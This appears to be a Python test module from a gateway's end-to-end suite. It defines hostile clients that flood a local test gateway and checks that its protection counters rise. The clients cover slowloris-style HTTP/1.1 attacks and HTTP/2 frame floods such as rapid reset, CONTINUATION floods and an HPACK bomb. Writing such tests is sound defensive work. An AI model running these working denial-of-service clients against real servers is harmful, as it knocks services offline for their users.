"""Hostile clients, one function each: run(stop) works in the client's namespace until 'stop' is set or its connection is ended
(OSError), and is then called again. The counters are those that have to move while the attack is on."""

import itertools
import resource
import socket
import struct
import time
from collections import namedtuple

from tests.e2e.conftest import GATEWAY, HTTP

Attack = namedtuple("Attack", "name run counters processes")
ATTACKS = []


def attack(*counters, processes=1):
    def add(run):
        ATTACKS.append(Attack(run.__name__.replace("_", "-"), run, counters, processes))
        return run

    return add


def connect(receive_buffer=None):
    s = socket.socket()
    if receive_buffer is not None:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    s.settimeout(5)
    s.connect((GATEWAY, HTTP))
    return s


def close(sockets):
    for s in sockets:
        s.close()


def trickle(stop, n, head, piece, receive_buffer=None):
    """'n' connections that send 'head' and then 'piece' twice a second; those that are ended are opened again."""
    sockets = {}
    try:
        while not stop.is_set():
            for i in range(n):
                try:
                    if i not in sockets:
                        sockets[i] = connect(receive_buffer)
                        sockets[i].sendall(head)
                        sockets[i].setblocking(False)
                    elif piece:
                        sockets[i].sendall(piece)
                    elif sockets[i].recv(1, socket.MSG_PEEK) == b"":
                        raise OSError("ended")
                except BlockingIOError:
                    pass
                except OSError:
                    if i in sockets:
                        sockets.pop(i).close()
            stop.wait(0.5)
    finally:
        close(sockets.values())


def pour(stop, data):
    """Sends 'data' again and again until the connection is ended."""
    with connect() as s:
        while not stop.is_set():
            s.sendall(data)


def requests(stop, data):
    """One request to a connection, the answer read to its end."""
    while not stop.is_set():
        with connect() as s:
            try:
                s.sendall(data)
            finally:
                while s.recv(65536):
                    pass


# --- HTTP/1.1


@attack("envoy_http_downstream_rq_header_timeout")
def slow_heads(stop):
    trickle(stop, 500, b"GET / HTTP/1.1\r\nhost: shop.example\r\nx: ", b"x")


@attack("pollgate_downstream_slow_bodies_total")
def slow_bodies(stop):
    head = b"POST /inventory/sum HTTP/1.1\r\nhost: shop.example\r\ncontent-length: 1000000\r\n\r\n"
    trickle(stop, 200, head, b"x")


@attack("pollgate_downstream_slow_readers_total")
def slow_readers(stop):
    trickle(stop, 100, b"GET /inventory/bytes/1000000 HTTP/1.1\r\nhost: shop.example\r\n\r\n", b"", 4096)


@attack("pollgate_downstream_slow_readers_total")
def unread_answers(stop):
    ask = b"GET /none HTTP/1.1\r\nhost: shop.example\r\n\r\n"
    with connect(4096) as s:
        while not stop.is_set():
            s.sendall(ask * 100)


@attack("pollgate_downstream_evicted_total")
def idle_connections(stop):
    resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
    sockets = []
    try:
        while not stop.is_set():
            try:
                sockets.append(connect())
            except OSError:  # there is no place for more: those that are ended make some
                close(sockets[:100])
                del sockets[:100]
    finally:
        close(sockets)


@attack("pollgate_http_errors_total")
def header_bombs(stop):
    requests(stop, b"GET / HTTP/1.1\r\nhost: a\r\n" + b"x: y\r\n" * 10000 + b"\r\n")


@attack("pollgate_http_errors_total")
def url_bombs(stop):
    requests(stop, b"GET /" + b"a/../" * 20000 + b" HTTP/1.1\r\nhost: a\r\n\r\n")


@attack()
def one_byte_chunks(stop):
    with connect() as s:
        s.sendall(b"POST /inventory/sum HTTP/1.1\r\nhost: shop.example\r\ntransfer-encoding: chunked\r\n\r\n")
        while not stop.is_set():
            s.sendall(b"1\r\nx\r\n" * 1000)


# --- HTTP/2

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def text(value):
    assert len(value) < 127
    return bytes((len(value),)) + value


def head(path=b"/inventory", more=b""):
    return b"\x82\x86\x44" + text(path) + b"\x41" + text(b"shop.example") + more


def streams():
    return itertools.count(1, 2)


def start(s, settings=b""):
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))


def many(stop, make, of=100):
    """Frames of make(stream id), 'of' at a time, until the connection is ended."""
    with connect() as s:
        start(s)
        ids = streams()
        while not stop.is_set():
            s.sendall(b"".join(make(i) for i in itertools.islice(ids, of)))


@attack("pollgate_h2_flood_early_resets_total")
def rapid_reset(stop):
    ask, cancel = head(), struct.pack(">I", 8)
    many(stop, lambda i: frame(HEADERS, END_STREAM | END_HEADERS, i, ask) + frame(RST_STREAM, 0, i, cancel))


@attack("pollgate_h2_flood_early_resets_total")
def made_you_reset(stop):
    ask = head(more=b"\x0f\x0d" + text(b"5"))  # a content-length that is not kept
    many(stop, lambda i: frame(HEADERS, END_HEADERS, i, ask) + frame(DATA, END_STREAM, i, b"x"))


@attack("pollgate_h2_flood_continuations_total")
def continuation_flood(stop):
    piece = frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y")
    with connect() as s:
        start(s)
        s.sendall(frame(HEADERS, 0, 1, head()))
        while not stop.is_set():
            s.sendall(piece * 100)


@attack("pollgate_h2_flood_control_total")
def settings_flood(stop):
    many(stop, lambda i: frame(SETTINGS, 0, 0))


@attack("pollgate_h2_flood_control_total")
def ping_flood(stop):
    many(stop, lambda i: frame(PING, 0, 0, b"12345678"))


@attack("pollgate_h2_flood_priority_total")
def priority_flood(stop):
    many(stop, lambda i: frame(PRIORITY, 0, i, b"\0\0\0\0\x01"))


@attack("pollgate_h2_flood_window_updates_total")
def window_update_flood(stop):
    many(stop, lambda i: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"))


@attack("pollgate_h2_flood_empty_frames_total")
def empty_data_flood(stop):
    with connect() as s:
        start(s)
        s.sendall(frame(HEADERS, END_HEADERS, 1, head()))
        while not stop.is_set():
            s.sendall(frame(DATA, 0, 1) * 100)


@attack("pollgate_downstream_slow_readers_total")
def zero_windows(stop):
    with connect() as s:
        start(s, struct.pack(">HI", 4, 0))
        ask = head(b"/inventory/bytes/100000")
        s.sendall(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, i, ask) for i in itertools.islice(streams(), 50)))
        began = time.monotonic()
        while not stop.is_set() and time.monotonic() - began < 8 and s.recv(65536):
            pass


@attack("pollgate_h2_flood_fields_total")
def hpack_bomb(stop):
    entry = b"\x40\x01x\x7f" + bytes(((3900 - 127) % 128 + 128, (3900 - 127) // 128)) + b"v" * 3900
    block = head(more=entry) + b"\xbe" * 12000
    with connect() as s:
        start(s)
        for i in streams():
            s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, i, block))
            if stop.is_set():
                break


@attack("pollgate_h2_header_overflow_total")
def cookie_crumbs(stop):
    block = head(more=b"\x60\x01a" + b"\xbe" * 10000)
    with connect() as s:
        start(s)
        for i in streams():
            s.sendall(frame(HEADERS, END_STREAM | END_HEADERS, i, block))
            s.recv(65536)
            if stop.is_set():
                break


@attack()
def one_byte_data_frames(stop):
    piece = frame(DATA, 0, 1, b"x") * 1000
    with connect() as s:
        start(s)
        s.sendall(frame(HEADERS, END_HEADERS, 1, head(b"/inventory/sum").replace(b"\x82", b"\x83", 1)))
        s.setblocking(True)
        while not stop.is_set():
            s.sendall(piece)
